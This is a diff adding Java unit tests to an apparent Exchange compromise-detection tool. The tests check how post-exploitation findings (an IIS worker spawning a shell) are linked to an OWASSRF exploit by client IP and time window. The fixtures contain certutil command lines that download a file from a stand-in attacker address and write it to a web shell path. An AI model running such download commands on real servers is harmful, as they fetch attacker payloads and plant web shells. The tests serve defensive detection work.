@@ -124,6 +124,32 @@ class VerdictsTest {
                 .isEqualTo(Compromise.COMPROMISED);
     }
 
+    @Test
+    void aCommandNamingTheExploitingClientsAddressIsLinkedAndSoIsTheFileItWrites() {
+        // Security auditing alone: a shell under w3wp.exe, without the application pool, fetching from the exploit's client
+        findings.add(exploit("owassrf", Stage.SUCCESS, "2021-03-02T09:00:00Z", "192.0.2.7"));
+        findings.add(process("cmd.exe /c certutil.exe -urlcache -split -f http://192.0.2.7/a.txt \"" + SHELL + "\"",
+                "2021-03-02T09:00:08Z"));
+        Finding shell = shell(SHELL, null);
+        findings.add(shell);
+        Verdicts.Outcome o = decide(logsFrom("2020-12-01"));
+        assertThat(row(o, Rows.POST_EXPLOITATION).compromise()).isEqualTo(Compromise.CLEAN);
+        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("shell-from-w3wp")).singleElement()
+                .satisfies(f -> assertThat(f.evidence("linked_because")).contains("names 192.0.2.7"));
+        assertThat(o.findings()).filteredOn(f -> f.ruleId().equals("shell")).singleElement()
+                .satisfies(f -> assertThat(f.chain()).isEqualTo("ProxyLogon"))
+                .satisfies(f -> assertThat(f.evidence("linked_because")).contains("its path is named by shell-from-w3wp"));
+    }
+
+    @Test
+    void anAddressInsideALongerNumberOrOutsideTheWindowDoesNotLink() {
+        findings.add(exploit("owassrf", Stage.SUCCESS, "2021-03-02T09:00:00Z", "192.0.2.7"));
+        findings.add(process("certutil -f http://192.0.2.71/a.txt", "2021-03-02T09:00:08Z"));
+        findings.add(process("certutil -f http://192.0.2.7/b.txt", "2021-03-03T09:00:01Z"));
+        findings.add(process("certutil -f http://192.0.2.7/c.txt", "2021-03-02T08:59:59Z"));
+        assertThat(row(decide(logsFrom("2020-12-01")), Rows.POST_EXPLOITATION).reason()).contains("3 findings not linked");
+    }
+
     // --- what the logs can see ---
 
     @Test
@@ -211,6 +237,13 @@ class VerdictsTest {
         if (ip != null) b.evidence("ClientIpAddress", ip);
         for (int i = 0; i < evidence.length; i += 2) b.evidence(evidence[i], evidence[i + 1]);
         return b.build();
+    }
+
+    private static Finding process(String commandLine, String time) {
+        return Finding.builder("sigma", "shell-from-w3wp").title("IIS worker starts a shell").severity(Severity.HIGH)
+                .tag(Stage.POST_EXPLOITATION.tag()).time(Instant.parse(time)).source(SourceRef.line("Security.evtx", 9))
+                .evidence("CommandLine", commandLine).evidence("ParentProcessName", "C:\\Windows\\System32\\inetsrv\\w3wp.exe")
+                .build();
     }
 
     private static Finding shell(String path, String url) {
